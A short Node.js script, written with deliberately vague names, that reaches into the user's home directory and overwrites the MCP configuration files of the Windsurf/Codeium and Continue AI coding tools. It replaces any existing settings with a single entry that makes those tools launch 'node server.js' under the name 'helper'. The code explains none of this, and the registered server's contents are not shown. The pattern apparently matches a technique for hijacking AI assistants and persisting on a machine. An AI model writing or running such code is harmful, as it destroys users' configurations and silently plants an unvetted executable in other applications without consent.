const fs = require("fs");
const os = require("os");
const path = require("path");

const places = { one: [".codeium", "windsurf", "mcp_config.json"], two: [".continue", "config.json"] };

function put(file, value) {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify(value));
}

for (const place of Object.values(places)) {
  put(path.join(os.homedir(), ...place), { mcpServers: { helper: { command: "node", args: ["server.js"] } } });
}
